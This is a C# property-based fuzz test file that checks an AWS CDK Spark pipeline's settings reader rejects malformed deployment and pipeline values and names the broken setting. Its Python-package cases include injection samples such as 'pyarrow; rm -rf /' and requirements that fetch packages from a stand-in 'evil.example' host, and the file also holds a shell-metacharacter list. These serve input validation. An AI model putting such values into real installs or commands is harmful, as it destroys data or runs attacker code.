using System.Text;
using System.Text.Json;
using System.Text.Json.Nodes;
using System.Text.RegularExpressions;
using CsCheck;
using Pipeline.Cdk.Settings;
using Pipeline.Cdk.Tests.Support;

namespace Pipeline.Cdk.Tests;

/// <summary>
/// Property tests of the settings reader: thousands of malformed <c>deployment</c> and <c>pipeline</c>
/// settings, each one value (or the whole object) broken in one way, must each stop the synth with a
/// problem naming the broken setting. The reader is called as Program calls it (context values as
/// jsii hands them over) without building a stack, so a case takes well under a millisecond.
/// Each generated case is malformed by construction; the reader decides nothing about that.
/// </summary>
public sealed partial class SettingsFuzzTests
{
    private const int Cases = 2000;

    private static readonly JsonObject Baseline = Synth.Context();

    /// <summary>Unicode category Cc: C0, DEL and C1.</summary>
    private static readonly char[] ControlCharacters = [.. Enumerable.Range(0, 32).Concat(Enumerable.Range(127, 33)).Select(c => (char)c)];

    /// <summary>Inserted only where a narrow ASCII pattern applies: free text (stage arguments, Spark property values) may hold any printable character.</summary>
    private static readonly string[] NonAscii = ["é", "ı", "ａ", "１", "\u200b", "\u00a0", "а", "ß", "한", "😀", "\ufeff", "\u202e", "\u2028"];

    /// <summary>Shell metacharacters; a field's own syntax may allow some of them (a cron's '*', a URL's nothing).</summary>
    private const string ShellMeta = ";|&$`()<>*?[]!#'\"\\ \t\n{}~";

    [Fact]
    public void Malformed_deployment_settings_are_refused_naming_the_setting()
    {
        var checkedCases = 0;
        DeploymentCases().Sample(
            c =>
            {
                AssertRefused(c, "deployment");
                Interlocked.Increment(ref checkedCases);
            },
            iter: Cases,
            print: c => c.ToString());

        Assert.True(checkedCases >= 1000, $"only {checkedCases} cases ran");
    }

    [Fact]
    public void Malformed_pipeline_settings_are_refused_naming_the_setting()
    {
        var checkedCases = 0;
        PipelineCases().Sample(
            c =>
            {
                AssertRefused(c, "pipeline");
                Interlocked.Increment(ref checkedCases);
            },
            iter: Cases,
            print: c => c.ToString());

        Assert.True(checkedCases >= 1000, $"only {checkedCases} cases ran");
    }

    [Fact]
    public void The_baseline_the_cases_start_from_is_valid()
    {
        Assert.Equal("pothole-spark", Synth.Read(Baseline.DeepClone().AsObject()).Pipeline.ClusterName);
    }

    /// <summary>One malformed context: <see cref="Key"/>'s value replaced by <see cref="Value"/> (a CLR value as jsii passes it), expected to be named as <see cref="Field"/>.</summary>
    public sealed record Case(string Key, string Field, string How, object? Value, object? Broken = null)
    {
        public override string ToString() => $"{Field} ({How}): {Describe(Broken ?? Value)}";

        private static string Describe(object? value)
        {
            try
            {
                var text = JsonSerializer.Serialize(value, new JsonSerializerOptions { NumberHandling = System.Text.Json.Serialization.JsonNumberHandling.AllowNamedFloatingPointLiterals });
                return text.Length > 600 ? text[..600] + "..." : text;
            }
            catch (Exception e) when (e is JsonException or ArgumentException or NotSupportedException)
            {
                return value?.ToString() ?? "null";
            }
        }
    }

    private static void AssertRefused(Case c, string key)
    {
        var context = Baseline;
        var error = Assert.Throws<SettingsException>(() => AppSettings.Read(k => k == key ? c.Value : Synth.ToClr(context[k])));
        Assert.True(
            error.Problems.Any(p => Names(p, c.Field)),
            $"{c}: no problem names {c.Field}; got:{Environment.NewLine}{string.Join(Environment.NewLine, error.Problems)}");
    }

    /// <summary>
    /// A problem names a setting when it starts with its path followed by ':', '[' or '.' (an item or
    /// member of it). The shared validator shows a Spark property name of more than 40 characters
    /// cut there and ended with '…'; that still names it.
    /// </summary>
    private static bool Names(string problem, string field)
    {
        var conf = ConfEntry().Match(field);
        var shown = conf.Success && conf.Groups["key"].Value.Length > 40 ? $"pipeline.submit.conf[\"{conf.Groups["key"].Value[..40]}…\"]" : field;
        return new[] { field, shown }.Any(f => problem.StartsWith(f, StringComparison.Ordinal) && problem.Length > f.Length && problem[f.Length] is ':' or '[' or '.');
    }

    [GeneratedRegex(@"^pipeline\.submit\.conf\[""(?<key>[^""]*)""\]$")]
    private static partial Regex ConfEntry();

    // ---------------------------------------------------------------------------------------------
    // deployment

    private static JsonObject DeploymentBaseline => Baseline.Deployment();

    private static Gen<Case> DeploymentCases() => Gen.Frequency<Case>(
        (6, BadDeploymentValue()),
        (1, MisspeltDeploymentName()),
        (1, DuplicatedDeploymentName()),
        (1, MalformedObject("deployment", DeploymentBaseline)));

    /// <summary>Valid values to break by insertion; empty ones ("" for account) are replaced by a valid non-empty one.</summary>
    private static readonly Dictionary<string, string> DeploymentSamples = new()
    {
        ["account"] = "123456789012",
        ["region"] = "ap-northeast-2",
        ["availabilityZone"] = "ap-northeast-2a",
        ["stackName"] = "PotholeSparkPipeline",
        ["vpcCidr"] = "10.40.0.0/16",
        ["masterInstanceType"] = "t3.medium",
        ["workerInstanceType"] = "m5.xlarge",
        ["amiId"] = "ami-0123456789abcdef0",
        ["sparkVersion"] = "3.5.7",
        ["sparkDownloadUrl"] = "https://archive.apache.org/dist/spark/spark-{version}/spark-{version}-bin-hadoop3.tgz",
        ["scheduleCron"] = "cron(0 10 * * ? *)",
        ["alertEmail"] = "data-team@example.com",
        ["pythonPackages"] = "pyarrow==17.0.0",
        ["ebsKmsKeyArn"] = "arn:aws:kms:ap-northeast-2:123456789012:key/1234abcd-12ab-34cd-56ef-1234567890ab",
    };

    /// <summary>Characters a field's own syntax accepts somewhere, so inserting one is not necessarily an error.</summary>
    private static readonly Dictionary<string, string> AllowedPunctuation = new()
    {
        ["scheduleCron"] = "*?#() ",
        ["pythonPackages"] = "*!<>[]~",
        ["sparkDownloadUrl"] = "{}~",
    };

    private static readonly string[] IntFields =
    [
        "rootVolumeGiB", "logRetentionDays", "functionMemoryMiB", "sweepMinutes",
        "nodeSetupTimeoutMinutes", "sparkEventLogRetentionDays", "noncurrentVersionRetentionDays", "workerAppDataRetentionHours",
    ];

    private static readonly string[] BoolFields = ["createBucket", "natGateway", "stopNodesAfterSetup", "scheduleEnabled"];

    private static Gen<Case> BadDeploymentValue() =>
        Gen.OneOf<Case>(
            Gen.OneOf(DeploymentSamples.Keys.ToArray()).SelectMany(field => Gen.OneOf<Case>(
                Inserted(field, ControlCharacters.Select(c => c.ToString()).ToArray(), "control character"),
                Inserted(field, NonAscii, "non-ASCII character"),
                Inserted(field, ShellMeta.Where(m => !AllowedPunctuation.GetValueOrDefault(field, "").Contains(m)).Select(m => m.ToString()).ToArray(), "shell metacharacter"),
                Oversized(field),
                WrongTypeForText(field))),
            Gen.OneOf(IntFields).SelectMany(BadWholeNumber),
            Gen.OneOf(BoolFields).SelectMany(field => Gen.OneOf<object?>("true", "false", 1.0, 0.0, "yes", Array.Empty<object>(), new Dictionary<string, object>())
                .Select(v => DeploymentCase(field, "not a boolean", v))),
            Missing(),
            BadCidr(),
            BadInstanceType(),
            BadCron(),
            BadRegionOrZone(),
            Gen.OneOf<object?>("1234", "12345678901", "1234567890123", "12345678901a", "1234-5678-9012", " 123456789012")
                .Select(v => DeploymentCase("account", "bad account id", v)),
            Gen.OneOf<object?>("ami-123", "ami-0123456789ABCDEF0", "ami-0123456789abcdef01", "ami_0123456789abcdef0", "AMI-0123456789abcdef0", "ami-")
                .Select(v => DeploymentCase("amiId", "bad AMI id", v)),
            Gen.OneOf<object?>("2.4.8", "3.5", "3.5.7.1", "v3.5.7", "3.5.x", "5.0.0", "3.100.1", "")
                .Select(v => DeploymentCase("sparkVersion", "bad Spark version", v)),
            Gen.OneOf<object?>(
                    "http://archive.apache.org/spark.tgz", "ftp://example.org/spark.tgz", "https://example.org/spark.zip", "https://example.org",
                    "file:///opt/spark.tgz", "https://example.org/spark.tgz?x=1", "https://example.org/a b.tgz", "s3://", "")
                .Select(v => DeploymentCase("sparkDownloadUrl", "bad download address", v)),
            Gen.OneOf<object?>("no-at-sign", "a@b", "a@@example.com", "a b@example.com", "@example.com", "team@", "team@example..com")
                .Select(v => DeploymentCase("alertEmail", "bad e-mail address", v)),
            Gen.OneOf<object?>("1abc", "-stack", "stack_name", "stack.name", new string('s', 129), "")
                .Select(v => DeploymentCase("stackName", "bad stack name", v)),
            BadPythonPackages());

    private static Gen<Case> Inserted(string field, string[] characters, string how) =>
        Gen.Select(Gen.OneOf(characters), Gen.Int[0, 1000], (inserted, at) =>
        {
            var sample = DeploymentSamples[field];
            var position = at % (sample.Length + 1);
            var value = sample[..position] + inserted + sample[position..];
            return DeploymentCase(field, how, field == "pythonPackages" ? new object[] { value } : value);
        });

    private static Gen<Case> Oversized(string field) =>
        Gen.Int[300, 20_000].Select(length =>
        {
            var sample = DeploymentSamples[field];
            var value = sample + new string(sample[^1] == ')' ? '0' : 'a', length);
            return DeploymentCase(field, "oversized", field == "pythonPackages" ? new object[] { value } : value);
        });

    private static Gen<Case> WrongTypeForText(string field) =>
        Gen.OneOf<object?>(0.0, 42.0, true, false, new object[] { "a" }, new Dictionary<string, object> { ["value"] = "x" })
            .Select(v => field == "pythonPackages" && v is object[] ? DeploymentCase(field, "wrong type", new object[] { 1.0 }) : DeploymentCase(field, "wrong type", v));

    private static Gen<Case> BadWholeNumber(string field)
    {
        var (min, max) = field switch
        {
            "rootVolumeGiB" => (20, 1024),
            "logRetentionDays" => (1, 3653),
            "functionMemoryMiB" => (128, 10240),
            "sweepMinutes" => (0, 1440),
            "nodeSetupTimeoutMinutes" => (DeploymentReader.MinNodeSetupMinutes, DeploymentReader.MaxNodeSetupMinutes),
            "sparkEventLogRetentionDays" => (0, 3650),
            "noncurrentVersionRetentionDays" => (1, 3650),
            "workerAppDataRetentionHours" => (1, 8760),
            _ => (10, 900),
        };
        return Gen.OneOf<Case>(
            Gen.Int[int.MinValue, min - 1].Select(v => DeploymentCase(field, "below the range", (double)v)),
            Gen.Int[max + 1, int.MaxValue].Select(v => DeploymentCase(field, "above the range", (double)v)),
            Gen.OneOf<object?>(1.5, 99.9, 1e12, -0.5, double.PositiveInfinity, double.NaN, "30", true, Array.Empty<object>())
                .Select(v => DeploymentCase(field, "not a whole number", v)),
            field switch
            {
                "logRetentionDays" => Gen.Int[2, 3652].Where(d => !DeploymentReader.RetentionDays.Contains(d)).Select(v => DeploymentCase(field, "not a retention period", (double)v)),
                // 0 switches the sweeper off; 1 to 4 minutes is no interval it takes.
                "sweepMinutes" => Gen.Int[1, DeploymentReader.MinSweepMinutes - 1].Select(v => DeploymentCase(field, "between off and the shortest interval", (double)v)),
                _ => Gen.Int[min - 10, min - 1].Select(v => DeploymentCase(field, "just below the range", (double)v)),
            });
    }

    private static Gen<Case> Missing() =>
        Gen.OneOf(DeploymentBaseline.Select(p => p.Key).ToArray()).Select(field =>
        {
            var copy = DeploymentBaseline.DeepClone().AsObject();
            copy.Remove(field);
            return new Case("deployment", $"deployment.{field}", "missing", Synth.ToClr(copy), "(removed)");
        });

    /// <summary>Malformed by construction: a bad octet, prefix, host bits, public range, or shape.</summary>
    private static Gen<Case> BadCidr() =>
        Gen.OneOf<string>(
            Gen.Select(Gen.Int[256, 999], Gen.Int[0, 3], (octet, at) =>
            {
                int[] parts = [10, 40, 0, 0];
                parts[at] = octet;
                return $"{string.Join('.', parts)}/16";
            }),
            Gen.OneOf<int>(Gen.Int[0, 15], Gen.Int[25, 99]).Select(length => $"10.40.0.0/{length}"),
            Gen.Select(Gen.Int[16, 23], Gen.Int[1, 255], (length, host) => $"10.40.0.{host}/{length}"),
            Gen.Select(Gen.Int[1, 223].Where(a => a is not (10 or 172 or 192)), Gen.Int[0, 255], (a, b) => $"{a}.{b}.0.0/16"),
            Gen.Int[0, 255].Where(b => b is < 16 or > 31).Select(b => $"172.{b}.0.0/16"),
            Gen.Int[0, 255].Where(b => b != 168).Select(b => $"192.{b}.0.0/16"),
            Gen.OneOf("10.40.0.0", "10.40.0/16", "10.40.0.0.0/16", "010.40.0.0/16", "10.040.0.0/16", "fd00::/56", "10.40.0.0/16/16", " 10.40.0.0/16", "10.40.0.0 /16", "0.0.0.0/0", ""))
        .Select(v => DeploymentCase("vpcCidr", "bad CIDR", v));

    private static Gen<Case> BadInstanceType() =>
        Gen.Select(
            Gen.OneOf("masterInstanceType", "workerInstanceType"),
            Gen.OneOf<string>(
                Gen.Select(Gen.OneOf("t4g", "m6g", "m7g", "m7gd", "c6gn", "r8g", "x2gd", "im4gn", "is4gen", "c7gn", "a1", "mac1", "mac2-m2pro"), Gen.OneOf("medium", "large", "xlarge", "metal", "2xlarge"), (f, s) => $"{f}.{s}"),
                Gen.OneOf("t3", "t3.", ".large", "T3.large", "t3_large", "t3.large ", "large", "t3..large", "3t.large", "t3.large.x", "")),
            (field, value) => DeploymentCase(field, "not an x86_64 instance type", value));

    /// <summary>Not EventBridge Scheduler crons: wrong field counts, '?' in neither or both day fields, other forms.</summary>
    private static Gen<Case> BadCron() =>
        Gen.OneOf<string>(
            Gen.Int[1, 9].Where(n => n != 6).Select(n => $"cron({string.Join(' ', Enumerable.Repeat("*", n))})"),
            Gen.Select(Gen.Int[0, 59], Gen.Int[0, 23], (m, h) => $"cron({m} {h} * * * *)"),
            Gen.Select(Gen.Int[0, 59], Gen.Int[0, 23], (m, h) => $"cron({m} {h} ? * ? *)"),
            Gen.Select(Gen.Int[0, 59], Gen.Int[0, 23], (m, h) => $"{m} {h} * * ? *"),
            Gen.OneOf("rate(1 day)", "at(2026-01-01T00:00:00)", "cron(0 10 * * ? *", "cron 0 10 * * ? *", "CRON(0 10 * * ? *)", "daily", "", "cron()", "cron(0 10 * * ? *) "))
        .Select(v => DeploymentCase("scheduleCron", "bad cron", v));

    private static Gen<Case> BadRegionOrZone() =>
        Gen.OneOf<Case>(
            Gen.OneOf("AP-NORTHEAST-2", "ap_northeast_2", "apnortheast2", "ap-northeast", "ap-northeast-22", "ap-northeast-2a", "ap-northeast-2 ", "-ap-northeast-2", "a-northeast-2", "Seoul")
                .Select(v => DeploymentCase("region", "bad region", v)),
            Gen.OneOf("ap-northeast-2", "ap-northeast-2ab", "ap-northeast-21", "AP-NORTHEAST-2A", "us-east-1a", "eu-west-3b", "ap-northeast-3a", "ap-northeast-2-a", "2a")
                .Select(v => DeploymentCase("availabilityZone", "bad zone", v)));

    private static Gen<Case> BadPythonPackages() =>
        Gen.OneOf<Case>(
            Gen.OneOf<object?>(
                    new object[] { "pyarrow; rm -rf /" }, new object[] { "-r requirements.txt" }, new object[] { "--index-url=http://evil.example" },
                    new object[] { "pkg @ https://evil.example/pkg.whl" }, new object[] { "git+https://github.com/x/y" }, new object[] { "" },
                    new object[] { " pyarrow" }, new object[] { "pyarrow", 17.0 }, new object[] { new object[] { "pyarrow" } }, "pyarrow", 1.0)
                .Select(v => DeploymentCase("pythonPackages", "bad requirement", v)),
            Gen.Int[51, 200].Select(n => DeploymentCase("pythonPackages", "too many", Enumerable.Range(0, n).Select(i => (object)$"pkg{i}").ToArray())));

    private static Gen<Case> MisspeltDeploymentName() =>
        Gen.Select(Gen.OneOf(DeploymentBaseline.Select(p => p.Key).ToArray()), Gen.Int[0, 3], Gen.Int[0, 100], (field, how, at) =>
        {
            var i = at % field.Length;
            var misspelt = how switch
            {
                0 => field.Remove(i, 1),
                1 => field[..i] + (char.IsUpper(field[i]) ? char.ToLowerInvariant(field[i]) : char.ToUpperInvariant(field[i])) + field[(i + 1)..],
                2 => field + "s",
                _ => "_" + field,
            };
            var copy = DeploymentBaseline.DeepClone().AsObject();
            copy[misspelt] = copy[field]!.DeepClone();
            return new Case("deployment", $"deployment.{misspelt}", "unknown name", Synth.ToClr(copy), misspelt);
        }).Where(c => c.Field != "deployment.deployment");

    private static Gen<Case> DuplicatedDeploymentName() =>
        Gen.OneOf(DeploymentBaseline.Select(p => p.Key).ToArray()).Select(field =>
        {
            var text = DeploymentBaseline.ToJsonString();
            var duplicated = "{" + JsonSerializer.Serialize(field) + ":" + DeploymentBaseline[field]!.ToJsonString() + "," + text[1..];
            return new Case("deployment", $"deployment.{field}", "given twice (JSON text)", duplicated);
        });

    private static Case DeploymentCase(string field, string how, object? value)
    {
        var copy = (Dictionary<string, object?>)Synth.ToClr(DeploymentBaseline)!;
        copy[field] = value;
        return new Case("deployment", $"deployment.{field}", how, copy, value);
    }

    // ---------------------------------------------------------------------------------------------
    // the whole object, for either key

    /// <summary>Not a JSON object at all: another type, or JSON text that does not parse.</summary>
    private static Gen<Case> MalformedObject(string key, JsonObject valid) =>
        Gen.OneOf<Case>(
            Gen.OneOf<object?>(null, 1.0, true, Array.Empty<object>(), new object[] { Synth.ToClr(valid)! }, "", "region=ap-northeast-2", "[]", "null", "42")
                .Select(v => new Case(key, key, "not an object", v)),
            Gen.Int[1, 10_000].Select(cut =>
            {
                var text = valid.ToJsonString();
                return new Case(key, key, "truncated JSON text", text[..(1 + (cut % (text.Length - 1)))]);
            }),
            Gen.Select(Gen.OneOf("trailing comma", "single quotes", "unquoted name", "comment", "NaN", "too deep"), Gen.Int[70, 500], (how, depth) =>
            {
                var text = valid.ToJsonString();
                var broken = how switch
                {
                    "trailing comma" => text[..^1] + ",}",
                    "single quotes" => text.Replace('"', '\''),
                    "unquoted name" => "{" + text[2..].Replace("\":", ":", StringComparison.Ordinal),
                    "comment" => "/* settings */" + text,
                    "NaN" => text[..^1] + ",\"x\":NaN}",
                    _ => new string('[', depth) + new string(']', depth),
                };
                return new Case(key, key, $"malformed JSON text ({how})", broken);
            }),
            Gen.Int[70, 300].Select(depth =>
            {
                object nested = "x";
                for (var i = 0; i < depth; i++)
                {
                    nested = new object[] { nested };
                }

                return new Case(key, key, "nested too deep", nested);
            }));

    // ---------------------------------------------------------------------------------------------
    // pipeline

    private static JsonObject PipelineBaseline => Baseline.Pipeline();

    /// <summary>Every value of the pipeline object with its path (<c>pipeline.stages[0].args[2]</c>), conf entries as <c>pipeline.submit.conf["key"]</c>.</summary>
    private static readonly (string Path, JsonNode Value)[] PipelineValues = Walk(PipelineBaseline, "pipeline").ToArray();

    private static IEnumerable<(string Path, JsonNode Value)> Walk(JsonNode node, string path)
    {
        yield return (path, node);
        var children = node switch
        {
            JsonObject o when path == "pipeline.submit.conf" => o.Select(p => ($"{path}[{JsonSerializer.Serialize(p.Key)}]", p.Value!)),
            JsonObject o => o.Select(p => ($"{path}.{p.Key}", p.Value!)),
            JsonArray a => a.Select((v, i) => ($"{path}[{i}]", v!)),
            _ => [],
        };
        foreach (var (childPath, child) in children)
        {
            foreach (var found in Walk(child, childPath))
            {
                yield return found;
            }
        }
    }

    /// <summary>Values checked by a narrow pattern (names, paths, prefixes), where any odd character is an error; stage arguments and Spark property values are free text the pipeline quotes.</summary>
    private static bool IsPatterned(string path) =>
        !path.Contains(".args[", StringComparison.Ordinal) && !path.StartsWith("pipeline.submit.conf[", StringComparison.Ordinal) && path != "pipeline.commandLogGroup";

    private static Gen<Case> PipelineCases()
    {
        var values = PipelineValues.Where(v => v.Path != "pipeline").ToArray();
        var texts = values.Where(v => v.Value.GetValueKind() == JsonValueKind.String).ToArray();
        var patterned = texts.Where(v => IsPatterned(v.Path)).ToArray();
        var numbers = values.Where(v => v.Value.GetValueKind() == JsonValueKind.Number).ToArray();
        var wholeNumbers = numbers.Where(v => v.Value.AsValue().TryGetValue<int>(out _)).ToArray();
        var members = values.Where(v => !v.Path.EndsWith(']')).ToArray();
        var objects = PipelineValues.Where(v => v.Value is JsonObject && v.Path != "pipeline.submit.conf").ToArray();

        return Gen.Frequency<Case>(
            (3, Gen.OneOf(values).SelectMany(v => WrongType(v.Value).Select(w => PipelineCase(v.Path, "wrong type", w)))),
            (1, Gen.OneOf(members).Select(v => PipelineCase(v.Path, "missing", null))),
            (2, Gen.Select(Gen.OneOf(texts), Gen.Int[PipelineSettingsReader.MaxTextLength + 1, 20_000], (v, n) => PipelineCase(v.Path, "oversized", v.Value.GetValue<string>() + new string('a', n)))),
            (2, Gen.Select(Gen.OneOf(texts), Gen.OneOf(ControlCharacters), Gen.Int[0, 1000], (v, c, at) => PipelineCase(v.Path, "control character", Insert(v.Value.GetValue<string>(), c.ToString(), at)))),
            (2, Gen.Select(Gen.OneOf(patterned), Gen.OneOf(NonAscii), Gen.Int[0, 1000], (v, c, at) => PipelineCase(v.Path, "non-ASCII character", Insert(v.Value.GetValue<string>(), c, at)))),
            (2, Gen.Select(Gen.OneOf(patterned), Gen.OneOf(";|&$`()<>*?[]!#'\"\\ \t".ToCharArray()), Gen.Int[0, 1000], (v, c, at) => PipelineCase(v.Path, "shell metacharacter", Insert(v.Value.GetValue<string>(), c.ToString(), at)))),
            (2, Gen.Select(Gen.OneOf(numbers), Gen.Int[int.MinValue, -1], (v, n) => PipelineCase(v.Path, "negative", (double)n))),
            (1, Gen.Select(Gen.OneOf(wholeNumbers), Gen.OneOf(1.5, 0.25, 3e9, -3e9, 1e300), (v, n) => PipelineCase(v.Path, "not a whole number", n))),
            (1, Gen.Select(Gen.OneOf(objects), Gen.OneOf("workers", "Bucket", "cluster_name", "extra", "timeoutMinute", "codeprefix"), (v, name) => PipelineCase($"{v.Path}.{name}", "unknown name", "x", add: true))),
            (1, Gen.OneOf(PipelineBaseline.Select(p => p.Key).ToArray()).Select(field =>
            {
                var text = PipelineBaseline.ToJsonString();
                return new Case("pipeline", $"pipeline.{field}", "given twice (JSON text)", "{" + JsonSerializer.Serialize(field) + ":" + PipelineBaseline[field]!.ToJsonString() + "," + text[1..]);
            })),
            (1, MalformedObject("pipeline", PipelineBaseline)));
    }

    private static string Insert(string text, string inserted, int at)
    {
        var position = at % (text.Length + 1);
        return text[..position] + inserted + text[position..];
    }

    /// <summary>A value of another JSON type than <paramref name="value"/>'s, as jsii would pass it.</summary>
    private static Gen<object?> WrongType(JsonNode value) => value.GetValueKind() switch
    {
        JsonValueKind.String => Gen.OneOf<object?>(1.0, true, Array.Empty<object>(), new Dictionary<string, object>()),
        JsonValueKind.Number => Gen.OneOf<object?>("5", true, Array.Empty<object>(), new Dictionary<string, object>()),
        JsonValueKind.Array => Gen.OneOf<object?>("a", 1.0, true, new Dictionary<string, object>()),
        JsonValueKind.Object => Gen.OneOf<object?>("a", 1.0, false, Array.Empty<object>()),
        _ => Gen.OneOf<object?>("a", 1.0, Array.Empty<object>()),
    };

    /// <summary>The pipeline object with the value at <paramref name="path"/> replaced (null: removed), or a new member added.</summary>
    private static Case PipelineCase(string path, string how, object? value, bool add = false)
    {
        var copy = PipelineBaseline.DeepClone().AsObject();
        var (parent, last) = Locate(copy, path["pipeline".Length..]);
        switch (parent, last)
        {
            case (JsonObject o, string name) when value is null && !add:
                o.Remove(name);
                break;
            case (JsonObject o, string name):
                o[name] = JsonPlaceholder.Node;
                break;
            case (JsonArray a, int index):
                a[index] = JsonPlaceholder.Node;
                break;
        }

        // jsii values may be non-JSON (Infinity); put the CLR value in after the conversion.
        var clr = Synth.ToClr(copy);
        return new Case("pipeline", path, how, JsonPlaceholder.Replace(clr, value), value);
    }

    private static (JsonNode Parent, object Last) Locate(JsonNode root, string rest)
    {
        var steps = new List<object>();
        var i = 0;
        while (i < rest.Length)
        {
            if (rest[i] == '.')
            {
                var end = rest.IndexOfAny(['.', '['], i + 1);
                end = end < 0 ? rest.Length : end;
                steps.Add(rest[(i + 1)..end]);
                i = end;
            }
            else
            {
                var end = rest.IndexOf(']', i);
                var inside = rest[(i + 1)..end];
                steps.Add(inside.StartsWith('"') ? JsonSerializer.Deserialize<string>(inside)! : int.Parse(inside, System.Globalization.CultureInfo.InvariantCulture));
                i = end + 1;
            }
        }

        var parent = root;
        foreach (var step in steps[..^1])
        {
            parent = step is int index ? parent[index]! : parent[(string)step]!;
        }

        return (parent, steps[^1]);
    }

    /// <summary>Marks where a CLR value goes in the converted context.</summary>
    private static class JsonPlaceholder
    {
        private const string Mark = "\u0000fuzz-placeholder\u0000";

        public static JsonNode Node => JsonValue.Create(Mark);

        public static object? Replace(object? clr, object? value) => clr switch
        {
            string s when s == Mark => value,
            Dictionary<string, object> d => d.ToDictionary(p => p.Key, p => Replace(p.Value, value)!),
            object[] a => a.Select(x => Replace(x, value)!).ToArray(),
            _ => clr,
        };
    }
}
